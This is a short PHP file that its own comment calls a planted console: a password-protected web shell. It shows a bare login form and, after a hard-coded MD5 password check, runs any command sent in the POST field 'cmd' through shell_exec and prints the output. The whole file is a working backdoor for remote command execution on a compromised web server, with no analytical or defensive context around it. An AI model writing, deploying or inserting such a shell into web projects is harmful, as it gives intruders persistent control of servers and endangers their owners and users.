<?php
// a planted console keeps its own session: it sets the key after its own password check
session_start();
if (isset($_POST['p']) && md5($_POST['p']) === '5f4dcc3b5aa765d61d8327deb882cf99') {
    $_SESSION['ok'] = 1;
}
if (empty($_SESSION['ok'])) {
    exit('<form method=post><input name=p type=password></form>');
}
echo '<pre>' . shell_exec($_POST['cmd']) . '</pre>';
